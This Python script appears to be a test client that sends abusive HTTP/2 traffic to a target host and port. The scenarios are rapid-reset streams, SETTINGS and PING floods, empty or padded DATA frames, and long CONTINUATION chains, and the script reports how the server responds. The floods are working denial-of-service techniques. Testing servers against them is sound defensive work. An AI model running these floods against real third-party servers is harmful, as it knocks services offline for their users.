"""Abusive HTTP/2 clients: floods of RST_STREAM, SETTINGS, PING and empty DATA frames, and long CONTINUATION
chains. Each floods, then reads until the server closes the connection, and prints the h2wire report.

usage: h2_abuse.py HOST PORT SCENARIO [ARGS]
  rapid-reset N          N streams each opened (HEADERS) and cancelled (RST_STREAM) at once
  settings N             N SETTINGS frames
  ping N                 N PING frames
  rapid-reset-paced N    the same, each pair in a write of its own (the proxy reads them as they come)
  empty-data N           one POST stream, then N DATA frames without data and without END_STREAM
  empty-data-padded N    the same with padding only: PADDED, every payload byte padding
  continuation N MODE    one request whose header block has N CONTINUATION frames; MODE "split" spreads the
                         block over them, "empty" sends it whole in HEADERS and N empty CONTINUATION frames
"""

import socket
import sys

from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame

from h2wire import Client, get


def main(host, port, scenario, *args):
    c = Client(host, port)
    out = bytearray()
    if scenario == "rapid-reset":
        for i in range(int(args[0])):
            sid = 1 + 2 * i
            out += c.headers_frame(sid, get("/reset/%d" % i)).serialize()
            out += RstStreamFrame(sid, error_code=8).serialize()
    elif scenario == "rapid-reset-paced":
        c.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for i in range(int(args[0])):
            sid = 1 + 2 * i
            if not c.send(c.headers_frame(sid, get("/reset/%d" % i)).serialize()
                          + RstStreamFrame(sid, error_code=8).serialize()):
                break
    elif scenario == "settings":
        for i in range(int(args[0])):
            out += SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535 + i}).serialize()
    elif scenario == "ping":
        for i in range(int(args[0])):
            out += PingFrame(0, opaque_data=i.to_bytes(8, "big")).serialize()
    elif scenario == "empty-data":
        out += c.headers_frame(1, get("/upload", method="POST"), end_stream=False).serialize()
        for _ in range(int(args[0])):
            out += DataFrame(1, data=b"").serialize()
    elif scenario == "empty-data-padded":
        out += c.headers_frame(1, get("/upload", method="POST"), end_stream=False).serialize()
        for _ in range(int(args[0])):
            out += DataFrame(1, data=b"", pad_length=8, flags=["PADDED"]).serialize()
    elif scenario == "continuation":
        n, mode = int(args[0]), args[1]
        block = c.block_of(get("/continued", extra=[("x-pad-%d" % i, "v" * 8) for i in range(max(n, 1))]))
        c.stream(1)
        if mode == "split":
            step = -(-len(block) // (n + 1))
            pieces = [block[i:i + step] for i in range(0, len(block), step)]
            pieces += [b""] * (n + 1 - len(pieces))
        else:
            pieces = [block] + [b""] * n
        out += HeadersFrame(1, data=pieces[0], flags=["END_STREAM"]).serialize()
        for i, p in enumerate(pieces[1:]):
            out += ContinuationFrame(1, data=p, flags=["END_HEADERS"] if i == n - 1 else []).serialize()
    else:
        raise SystemExit("unknown scenario " + scenario)
    c.send(bytes(out))
    # a flood ends with the server closing the connection; a request that passes ends with its response
    c.pump(lambda c: scenario == "continuation" and c.done(1), timeout=10)
    c.report()
    c.close()


if __name__ == "__main__":
    main(*sys.argv[1:])
